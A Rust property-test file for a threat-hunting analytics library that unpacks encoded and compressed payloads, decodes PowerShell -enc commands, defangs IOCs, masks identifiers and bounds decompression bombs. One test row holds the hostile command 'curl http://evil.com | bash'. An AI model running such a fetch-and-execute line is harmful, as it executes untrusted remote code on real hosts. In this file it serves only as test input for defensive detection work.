//! What holds for every text: packing and unpacking, de-fanging and back, masks, and no panic.

use std::collections::BTreeSet;
use std::io::Write as _;
use std::net::{Ipv4Addr, Ipv6Addr};

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE};
use flate2::Compression;
use flate2::write::{DeflateEncoder, GzEncoder, ZlibEncoder};
use huntlet_analytics::ioc::{self, IocType};
use huntlet_analytics::ip::get_ip_type;
use huntlet_analytics::mask::{Kind, Masker};
use huntlet_analytics::unpack::{Options, hashes, unpack};
use huntlet_analytics::{Input, NoControl, find, functions};
use huntlet_table::{Column, KqlType, Table};
use proptest::prelude::*;
use serde_json::{Map, Value, json};

fn utf16(text: &str, big: bool) -> Vec<u8> {
    text.encode_utf16().flat_map(|unit| if big { unit.to_be_bytes() } else { unit.to_le_bytes() }).collect()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn zipped(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, bytes) in files {
        writer.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

/// A tar file, written by hand: no tool of ours reads it but the one under test.
fn tarred(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, bytes) in files {
        let mut header = vec![0_u8; 512];
        header[..name.len()].copy_from_slice(name.as_bytes());
        header[100..107].copy_from_slice(b"0000644");
        header[124..135].copy_from_slice(format!("{:011o}", bytes.len()).as_bytes());
        header[148..156].copy_from_slice(b"        ");
        header[156] = b'0';
        header[257..263].copy_from_slice(b"ustar\0");
        let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
        header[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
        out.extend_from_slice(&header);
        out.extend_from_slice(bytes);
        out.resize(out.len().div_ceil(512) * 512, 0);
    }
    out.resize(out.len() + 1024, 0);
    out
}

/// Texts that are decoded: all items that are text.
fn texts(input: &str) -> Vec<String> {
    unpack(input, &Options::default()).items.into_iter().filter_map(|item| item.decoded_string).collect()
}

/// Readable text that is long enough to be looked at, and does not start with a byte order mark.
fn readable() -> impl Strategy<Value = String> {
    "[ -~]{24,200}"
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn what_is_packed_is_unpacked(text in readable(), before in "[ -*:-@]{0,12}") {
        let packed: Vec<Vec<u8>> = vec![
            text.as_bytes().to_vec(),
            utf16(&text, false),
            utf16(&text, true),
            gzip(text.as_bytes()),
            zlib(text.as_bytes()),
            deflate(text.as_bytes()),
            zipped(&[("a/b.txt", text.as_bytes())]),
            tarred(&[("b.txt", text.as_bytes())]),
            gzip(&tarred(&[("b.txt", text.as_bytes())])),
            zipped(&[("x.gz", &gzip(text.as_bytes()))]),
        ];
        for (number, bytes) in packed.into_iter().enumerate() {
            for encoded in [STANDARD.encode(&bytes), URL_SAFE.encode(&bytes), STANDARD_NO_PAD.encode(&bytes)] {
                let found = texts(&format!("{before} {encoded}"));
                prop_assert!(found.contains(&text), "{}: {} gave {:?}", number, encoded, found);
            }
        }
    }

    #[test]
    fn nesting_is_undone(text in "[a-z]{30,60}", levels in 1_usize..8) {
        let packed = (0..levels).fold(format!("{text}."), |inner, _| STANDARD.encode(inner));
        let found = unpack(&packed, &Options::default());
        prop_assert_eq!(found.items.len(), levels);
        let last = found.items.last().and_then(|item| item.decoded_string.clone());
        prop_assert_eq!(last, Some(format!("{text}.")));
        let shown = format!("depth='{levels}'>{text}.</decoded>");
        prop_assert!(found.text.unwrap_or_default().contains(&shown));
    }

    #[test]
    fn commands_of_powershell_are_unpacked_however_short(text in "[a-z]{3,20}", name in "-(e|enc|EncodedCommand|eC)") {
        let command = format!("powershell.exe {name} {}", STANDARD.encode(utf16(&text, false)));
        prop_assert_eq!(texts(&command), vec![text]);
    }

    #[test]
    fn binaries_are_hashed(bytes in proptest::collection::vec(any::<u8>(), 200..400)) {
        let mut program = b"MZ\x90\0".to_vec();
        program.resize(60, 0);
        program.extend_from_slice(&128_u32.to_le_bytes());
        program.resize(128, 0);
        program.extend_from_slice(b"PE\0\0");
        program.extend_from_slice(&bytes);
        let found = unpack(&format!("drop {}", STANDARD.encode(&program)), &Options::default());
        prop_assert_eq!(found.items.len(), 1);
        let item = &found.items[0];
        prop_assert!(matches!(item.file_type, Some("exe" | "dll" | "sys")));
        prop_assert_eq!(&item.hashes, &hashes(&program));
        prop_assert_eq!(&item.input_bytes, &program);
    }

    #[test]
    fn defanging_is_undone(
        host in "[a-z]{2,12}(\\.[a-z]{2,9}){0,2}\\.(com|net|org|de|co\\.uk)",
        octets in any::<[u8; 4]>(),
        segments in any::<[u16; 8]>(),
        local in "[a-z][a-z0-9._]{0,10}[a-z]",
        path in "(/[a-zA-Z0-9_.~-]{0,7}[a-z0-9]){0,3}(\\?[a-z]=[0-9]{1,4})?",
        scheme in "https?|ftps?|sftp",
    ) {
        for (value, ty) in [
            (host.clone(), IocType::Dns),
            (Ipv4Addr::from(octets).to_string(), IocType::Ipv4),
            (Ipv6Addr::from(segments).to_string(), IocType::Ipv6),
            (format!("{local}@{host}"), IocType::Email),
            (format!("{scheme}://{host}{path}"), IocType::Url),
        ] {
            let safe = ioc::defang(&value, ty);
            prop_assert_eq!(ioc::refang(&safe), value.clone());
            if ty != IocType::Ipv6 && !(ty == IocType::Email && local.contains("..")) {
                let found = ioc::Extractor::new(&ioc::Options::default()).unwrap().extract(&safe);
                let names = |one: &ioc::Found| one.kind == ty as u16 && one.observable == value;
                prop_assert!(found.iter().any(names), "{} gave {:?}", safe, found);
            }
        }
    }

    #[test]
    fn masks_keep_class_and_form(octets in any::<[u8; 4]>(), segments in any::<[u16; 8]>(), salt in "[a-z]{0,8}") {
        let masker = Masker::new(&salt);
        for address in [Ipv4Addr::from(octets).to_string(), Ipv6Addr::from(segments).to_string()] {
            let mask = masker.mask(&address, Kind::Ip);
            prop_assert_eq!(get_ip_type(&mask), get_ip_type(&address), "{} became {}", address, mask);
            prop_assert_eq!(&masker.mask(&address, Kind::Auto), &mask);
        }
    }

    #[test]
    fn masks_are_the_same_for_the_same_and_differ_for_others(
        texts in proptest::collection::btree_set("[a-z0-9]{1,6}", 2..40),
        numbers in proptest::collection::btree_set(any::<u16>(), 2..60),
        salt in "[a-z]{0,8}",
    ) {
        let masker = Masker::new(&salt);
        let distinct = |kind: Kind, values: &BTreeSet<String>| values.iter().map(|value| masker.mask(value, kind)).collect::<BTreeSet<_>>().len();
        prop_assert_eq!(distinct(Kind::Text, &texts), texts.len());
        for network in ["10.7", "192.168", "172.16", "8.8", "100.64", "224.0", "169.254"] {
            let addresses: BTreeSet<String> = numbers.iter().map(|n| format!("{network}.{}.{}", n >> 8, n & 255)).collect();
            prop_assert_eq!(distinct(Kind::Ip, &addresses), addresses.len());
        }
        let guids: BTreeSet<String> = numbers.iter().map(|n| format!("00000000-0000-4000-8000-00000000{n:04x}")).collect();
        prop_assert_eq!(distinct(Kind::Guid, &guids), guids.len());
        let sids: BTreeSet<String> = numbers.iter().map(|n| format!("S-1-5-21-1-2-{n}-1001")).collect();
        prop_assert_eq!(distinct(Kind::Sid, &sids), sids.len());
        prop_assert!(sids.iter().all(|sid| masker.mask(sid, Kind::Sid).ends_with("-1001")));
        let again = Masker::new(&salt);
        prop_assert!(texts.iter().all(|text| masker.mask(text, Kind::Text) == again.mask(text, Kind::Text)));
    }
}

#[test]
fn masks_of_one_user_agree() {
    let masker = Masker::new("salt");
    let name = masker.mask("alice", Kind::Account);
    assert_ne!(name, "alice");
    let upn = masker.mask("alice@contoso.com", Kind::Account);
    let down_level = masker.mask("contoso\\alice", Kind::Account);
    let host = masker.mask("contoso.com", Kind::Host);
    assert_eq!(upn, format!("{name}@{host}"));
    assert_eq!(down_level.split_once('\\').unwrap().1, name);
    assert!(
        host.split_once('.').is_some_and(|(_, suffix)| suffix == "com")
            && masker.mask("https://contoso.com:8443/a?b=1", Kind::Url).contains(&format!("://{host}:8443/"))
    );
    for kept in ["NT AUTHORITY\\SYSTEM", "root", "LOCAL SERVICE"] {
        assert_eq!(masker.mask(kept, Kind::Account), kept);
    }
    for kept in ["S-1-5-18", "S-1-5-32-544", "127.0.0.1", "::1", "00000000-0000-0000-0000-000000000000"] {
        assert_eq!(masker.mask(kept, Kind::Auto), kept);
    }
    assert_ne!(Masker::new("other").mask("alice", Kind::Account), name);
    let path = masker.mask("C:\\Users\\alice\\secret.docx", Kind::Path);
    assert!(
        path.starts_with("C:\\Users\\")
            && path.rsplit_once('.').is_some_and(|(_, ending)| ending == "docx")
            && !path.contains("alice"),
        "{path}"
    );
}

/// Arguments with which a function can be called on the table below or on a text.
fn arguments(function: &huntlet_analytics::Function, is_text: bool) -> Map<String, Value> {
    let mut given = Map::new();
    for parameter in function.parameters {
        let value = match parameter.name {
            "column" | "cmd_field" if !is_text => json!("text"),
            "columns" if !is_text => json!(["text", "other"]),
            "time_column" if !is_text => json!("time"),
            "targets" => json!(["contoso.com", "microsoft.com"]),
            "ranges" => json!(["10.0.0.0/8", "2001:db8::/32"]),
            "salt" => json!("pepper"),
            _ => continue,
        };
        given.insert(parameter.name.to_owned(), value);
    }
    given
}

/// The functions of texts: what they need is known here.
const OURS: &[&str] = &[
    "base64_unpack",
    "ioc_extract",
    "get_ioc_type",
    "refang_ioc",
    "defang_ioc",
    "preprocess_observable",
    "dns_components",
    "url_components",
    "domain_features",
    "domain_lookalikes",
    "get_ip_type",
    "ip_ranges",
    "risky_cmd_line",
    "cmd_speed",
    "mask_df",
];

fn call(name: &str, input: Input) -> huntlet_analytics::Result<huntlet_analytics::Outcome> {
    let function = find(name).unwrap();
    let given = arguments(function, matches!(input, Input::Text(_)));
    pollster::block_on(function.call(input, &given, &NoControl))
}

fn table(texts: Vec<String>) -> Table {
    let other = texts.iter().rev().map(|text| Some(text.clone())).collect();
    let times =
        (0..texts.len()).map(|row| (row % 7 != 3).then_some(630_000_000_000_000_000 - row as i64)).collect();
    Table::new(vec![
        Column::strings("text", texts.into_iter().map(Some).collect()),
        Column::strings::<String>("other", other),
        Column::datetimes("time", times),
    ])
    .unwrap()
}

/// Hostile texts: pieces of everything that is looked for, put together at random.
fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        any::<String>(),
        "[\\x00-\\x7f]{0,20}",
        prop::sample::select(vec![
            "http://",
            "hxxp[://]",
            "//",
            "[.]",
            ".]",
            "[dot]",
            "@",
            "[at]",
            "C:\\",
            "\\\\",
            "\\",
            "%x%\\",
            "HKLM\\",
            "HKEY_USERS:\\",
            "/usr/",
            "~/",
            "$HOME/",
            "::",
            "[:]",
            "2001:db8::1",
            "1.2.3.4",
            "evil.com",
            "xn--",
            "xn--80ak6aa92e",
            ".",
            "..",
            "=",
            "==",
            "-enc ",
            "/e:",
            "H4sIAAAAAAACA0uvyixQKEiszMlPTFEwNNAz1DPSMwYAPW2ddxUAAAA=",
            "UEsDBBQAAAAAAAAAIQBFxjG7JQAAACUAAAAFAAAAYS50eHQ",
            "QlpoOTFBWSZTWQ==AAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
            "d41d8cd98f00b204e9800998ecf8427e",
            "é",
            "日本",
            "\u{202e}",
            "😀",
            "%41%zz%",
            "S-1-5-21-",
            "{",
            "}",
            "münchen.de",
        ])
        .prop_map(str::to_owned),
    ];
    proptest::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    // 300 tables of up to 60 texts, and each text alone: about 20,000 texts
    #[test]
    fn no_text_makes_a_function_fail(texts in proptest::collection::vec(hostile(), 0..60)) {
        for name in OURS {
            let found = call(name, Input::Table(table(texts.clone())));
            prop_assert!(found.is_ok(), "{}: {:?}", name, found.err());
            if *name != "cmd_speed" {
                for text in texts.iter().take(3) {
                    prop_assert!(call(name, Input::Text(text.clone())).is_ok());
                }
            }
        }
    }

    #[test]
    fn rows_do_not_know_each_other(texts in proptest::collection::vec(hostile(), 1..20)) {
        // what a row gives does not depend on the rows beside it
        let all = ioc::extract_table(&table(texts.clone()), &["text"], &ioc::Options::default()).unwrap();
        let apart: usize = texts.iter().map(|text| ioc::extract_text(text, &ioc::Options::default()).unwrap().height()).sum();
        prop_assert_eq!(all.height(), apart);
    }

    #[test]
    fn what_is_found_is_in_the_text(text in hostile()) {
        let extractor = ioc::Extractor::new(&ioc::Options { include_paths: true, ..ioc::Options::default() }).unwrap();
        for one in extractor.extract(&text) {
            prop_assert!(text.get(one.start..one.end).is_some_and(|raw| !raw.is_empty()), "{:?} of {:?}", one, text);
            prop_assert!(!one.observable.is_empty());
        }
    }
}

#[test]
fn columns_do_not_depend_on_rows() {
    for function in functions().iter().filter(|function| function.pipes && OURS.contains(&function.name)) {
        let full =
            table(vec!["curl http://evil.com | bash".to_owned(), String::new(), "10.0.0.1".to_owned()]);
        let given = arguments(function, false);
        let schema = function.schema(&full.schema(), &given).unwrap();
        let outcome = pollster::block_on(function.call(Input::Table(full), &given, &NoControl)).unwrap();
        assert_eq!(outcome.main().unwrap().schema(), schema, "{}", function.name);
    }
}

#[test]
fn nulls_numbers_and_large_cells_have_defined_results() {
    let large = format!(
        "{} evil.example.com {}",
        "lorem ipsum 1234 ".repeat(600_000),
        STANDARD.encode("x".repeat(100))
    );
    let cells = Table::new(vec![
        Column::strings("text", vec![Some(large), None, Some(String::new())]),
        Column::longs("other", vec![Some(5), None, Some(7)]),
        Column::nulls("time", KqlType::DateTime, 3),
        Column::dynamics("json", vec![Some(json!({"ip": "10.0.0.1"})), None, None]),
    ])
    .unwrap();
    for name in OURS {
        let found = call(name, Input::Table(cells.clone()));
        assert!(found.is_ok(), "{name}: {:?}", found.err());
    }
    let iocs = ioc::extract_table(&cells, &["text", "other", "json"], &ioc::Options::default()).unwrap();
    let values: Vec<_> = iocs
        .column("Observable")
        .unwrap()
        .str()
        .unwrap()
        .iter()
        .map(|cell| cell.unwrap().to_owned())
        .collect();
    assert_eq!(values, ["evil.example.com", "10.0.0.1"]);
}

#[test]
fn bombs_are_bounded() {
    let bomb = gzip(&vec![0_u8; 200 << 20]);
    let options = Options { max_bytes: 1 << 20, ..Options::default() };
    let found = unpack(&STANDARD.encode(&bomb), &options);
    assert_eq!(found.items.len(), 1);
    assert!(
        found.items[0].input_bytes.len() <= 1 << 20 && found.items[0].note.starts_with("cut"),
        "{}",
        found.items[0].note
    );
    // a nest that is deeper than allowed
    let deep = (0..6).fold("the innermost text of them all.".to_owned(), |inner, _| STANDARD.encode(inner));
    let found = unpack(&deep, &Options { max_depth: 3, ..Options::default() });
    assert_eq!(found.items.len(), 3);
    assert!(found.items[2].note.contains("too deep"));
    // a damaged archive is one binary
    let mut broken = zipped(&[("a.txt", b"hello hello hello hello hello")]);
    let end = broken.len() - 30;
    broken.truncate(end);
    let found = unpack(&STANDARD.encode(&broken), &Options::default());
    assert_eq!((found.items.len(), found.items[0].encoding_type), (1, "binary"));
}

#[test]
fn arguments_are_checked() {
    let function = find("ioc_extract").unwrap();
    let run = |given: Value| {
        let given = given.as_object().unwrap().clone();
        pollster::block_on(function.call(Input::Table(table(vec![])), &given, &NoControl))
            .map_err(|error| (error.code, error.message, error.hint.unwrap_or_default()))
    };
    let (code, message, hint) = run(json!({})).unwrap_err();
    assert_eq!((code, message.as_str()), ("AN0102", "`ioc_extract` needs `columns`."));
    assert!(hint.starts_with("Give a list of column names"));
    assert_eq!(run(json!({"columns": "nope"})).unwrap_err().1, "`columns`: the table has no column `nope`.");
    assert_eq!(run(json!({"columns": "Text"})).unwrap_err().2, "There is `text`: case counts.");
    assert_eq!(run(json!({"columns": "text", "defanged": "yes"})).unwrap_err().2, "Give true or false.");
    assert_eq!(run(json!({"columns": "text", "colour": 1})).unwrap_err().0, "AN0104");
    assert_eq!(
        run(json!({"columns": "text", "ioc_types": ["x"]})).unwrap_err().1,
        "`ioc_types` has no type `x`."
    );
    assert!(run(json!({"columns": "text", "patterns": {"cve": "CVE-\\d{4}-\\d+"}})).is_ok());
    assert_eq!(run(json!({"columns": "text", "patterns": {"bad": "(?<=x)y"}})).unwrap_err().0, "AN0103");
    let wrong =
        pollster::block_on(find("cmd_speed").unwrap().call(Input::Text("x".into()), &Map::new(), &NoControl))
            .unwrap_err();
    assert_eq!(wrong.message, "`cmd_speed` takes a table and got a text.");
}

#[test]
fn types_of_ones_own_are_found() {
    let function = find("ioc_extract").unwrap();
    let given = json!({"patterns": {"cve": "CVE-\\d{4}-\\d{4,7}", "ticket": {"regex": "INC(?P<id>\\d+)", "group": "id"}}});
    let outcome = pollster::block_on(function.call(
        Input::Text("cve-2024-12345 in INC0042 at evil.com".into()),
        given.as_object().unwrap(),
        &NoControl,
    ))
    .unwrap();
    let table = outcome.main().unwrap();
    let text = |name: &str| {
        table
            .column(name)
            .unwrap()
            .str()
            .unwrap()
            .iter()
            .map(|cell| cell.unwrap().to_owned())
            .collect::<Vec<_>>()
    };
    assert_eq!(text("IoCType"), ["dns", "cve", "ticket"]);
    assert_eq!(text("Observable"), ["evil.com", "cve-2024-12345", "0042"]);
}

#[test]
fn fast_commands_are_found_per_account() {
    let ticks = |seconds: i64| Some(630_000_000_000_000_000 + seconds * 10_000_000);
    // alice's come one a second, bob's one a minute, both out of order
    let times = [0, 60, 2, 1, 120, 3, 180, 240].map(ticks).to_vec();
    let users = ["alice", "bob", "alice", "alice", "bob", "alice", "bob", "bob"].map(Some).to_vec();
    let commands = ["a0", "b0", "a2", "a1", "b1", "a3", "b2", "b3"].map(Some).to_vec();
    let table = Table::new(vec![
        Column::datetimes("TimeGenerated", times),
        Column::strings("User", users),
        Column::strings("Command", commands),
    ])
    .unwrap();
    let given = json!({"cmd_field": "Command", "time": "00:00:03", "events": 3, "by": ["User"]});
    let outcome = pollster::block_on(find("cmd_speed").unwrap().call(
        Input::Table(table),
        given.as_object().unwrap(),
        &NoControl,
    ))
    .unwrap();
    let found = outcome.main().unwrap();
    assert_eq!(found.height(), 1);
    assert_eq!(found.column("User").unwrap().str().unwrap().get(0), Some("alice"));
    assert_eq!(found.column("Commands").unwrap().i64().unwrap().get(0), Some(4));
    assert_eq!(found.column("CommandList").unwrap().str().unwrap().get(0), Some(r#"["a0","a1","a2","a3"]"#));
    let last = found.column("LastEventTime").unwrap().i64().unwrap().get(0);
    assert_eq!(last, ticks(3));
}

/// Shapes that make a careless scan take time that grows with the square of the text: each is a megabyte.
#[test]
fn large_hostile_texts_end() {
    let shapes = [
        "http://",
        "http://a.com/",
        "http://a.com/%41",
        "http://a.com/%41 ",
        "http://a.com/))))))))",
        "/usr/bin ",
        "/usr/a http://b.com/c ",
        "HKLM\\a ",
        "C:\\a ",
        "\\a",
        "%\\",
        "%a%\\b ",
        "a@b.com ",
        "a@",
        "a@b",
        "@",
        ".",
        "a.",
        "[.]",
        "[dot]a",
        "1.2.3.4 ",
        "1.",
        "::",
        "a:",
        "[:]",
        "-e AAAAAAAA ",
        "-e",
        "/e",
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA-",
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/",
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n",
        "A",
        "=",
        "d41d8cd98f00b204e9800998ecf8427e ",
        "https:\\/\\/a.com\\/",
        "\"C:\\a b ",
        "HKLM\\a\"",
        "'",
        "x.com,",
        "H4sIAAAAAAACA0uvyixQKEiszMlPTFEwNNAz1DPSMwYAPW2ddxUAAAA= ",
    ];
    for shape in shapes {
        let text = shape.repeat((1 << 20) / shape.len());
        let iocs = ioc::extract_text(&text, &ioc::Options { include_paths: true, ..ioc::Options::default() });
        assert!(iocs.is_ok(), "{shape}");
        let found = unpack(&text, &Options::default());
        assert!(found.items.len() <= Options::default().max_items, "{shape}");
    }
}
